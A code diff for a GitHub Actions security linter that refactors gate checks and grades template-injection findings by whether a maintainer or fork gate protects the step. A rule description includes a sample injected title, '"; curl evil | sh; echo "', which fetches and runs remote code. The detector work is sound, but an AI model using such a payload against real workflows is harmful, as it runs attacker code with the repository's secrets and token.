@@ -6,7 +6,7 @@ import { get, isTrue, isYMap, isYScalar, isYSeq, items, pair, text, type YMap, t
 import { taintOf, taintedVariable, untrustedSource, worst } from './taint.js';
 import { mayYield, parseExpression } from './expression.js';
 import { GATED, alwaysTrueCondition, dangerousTrigger, spoofableBotCheck } from './condition-rules.js';
-import { gateOf, runsFor } from './gates.js';
+import { runsFor, weakestGate } from './gates.js';
 import { broadAppToken } from './app-token-rules.js';
 import { cachePoisoning, unpinnedContainerImage, unpinnedPackageInstall } from './supply-rules.js';
 import { constantExpression, unredactedSecret, unsoundContainsRule, unsoundTernary } from './expression-rules.js';
@@ -88,7 +88,7 @@ const templateInjection = workflowRule({
   id: 'iac/gha-template-injection',
   title: 'Attacker-controlled input expanded into a script',
   description:
-    "A `${{ }}` expression inserts text an outsider controls (an issue or pull request title or body, a branch name, a commit message, a comment) into a `run:` script or a github-script `script:`. The expression is expanded before the shell or JavaScript runs, so a title like `\"; curl evil | sh; echo \"` becomes code running with the workflow's token and secrets.",
+    "A `${{ }}` expression inserts text an outsider controls (an issue or pull request title or body, a branch name, a commit message, a comment) into a `run:` script or a github-script `script:`. The expression is expanded before the shell or JavaScript runs, so a title like `\"; curl evil | sh; echo \"` becomes code running with the workflow's token and secrets. Critical in a workflow that runs with privileges on outsiders' events, high when a gate stands in front of the step (a label only maintainers add, a permission or author_association check, a deployment environment, an `if:` that keeps forks out) and in other workflows.",
   remediation: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"` (in github-script, read context.payload instead).',
   severity: 'high',
   cwe: ['CWE-94', 'CWE-78'],
@@ -133,11 +133,14 @@ const templateInjection = workflowRule({
         const source = untrustedSource(expression.inner, taint, wf);
         if (!source) continue;
         const at = inside(keyLine, lineOfText(wf, scalar, expression.raw, keyLine));
+        const privileged = source.severity === undefined && (source.privileged ?? isPrivileged(wf));
+        // Behind a maintainer's action or a fork check, an outsider's text still runs, but not on the outsider's own say.
+        const gate = privileged && step ? weakestGate(wf, step.job, step, [...wf.triggers.keys()].filter((t) => PRIVILEGED_TRIGGERS.has(t))) : undefined;
         yield {
           ...at,
-          message: `${stepLabel(step)} expands ${source.text} into ${what}${detailNote(at)}; pass it through env: and quote it.`,
+          message: `${stepLabel(step)} expands ${source.text} into ${what}${detailNote(at)}; pass it through env: and quote it${gate ? ` (${gate.why}: an outsider cannot run it on their own)` : ''}.`,
           resource: stepLabel(step),
-          severity: source.severity ?? ((source.privileged ?? isPrivileged(wf)) ? 'critical' : 'high'),
+          severity: source.severity ?? (privileged ? (gate ? 'high' : 'critical') : 'high'),
         };
       }
     }
@@ -174,11 +177,8 @@ const untrustedCheckout = workflowRule({
       for (const step of job.steps) {
         const risky = untrustedCheckoutInput(step, wf);
         if (!risky) continue;
-        const reached = triggers.filter((t) => runsFor(t, job, step));
-        if (reached.length === 0) continue;
-        // The weakest gate over the privileged triggers that reach the step: none, a maintainer's action, or no forks at all.
-        const gates = reached.map((t) => gateOf(wf, job, step, t));
-        const gate = gates.some((g) => !g) ? undefined : gates.find((g) => g!.kind === 'maintainer') ?? gates[0];
+        if (!triggers.some((t) => runsFor(t, job, step))) continue;
+        const gate = weakestGate(wf, job, step, triggers);
         yield {
           line: risky.line,
           message: `${stepLabel(step)} checks out pull request code (${risky.value.trim()}) in a workflow that runs with secrets and a write token${gate ? `, but ${gate.why}, so ${GATED[gate.kind]}` : ''}.`,
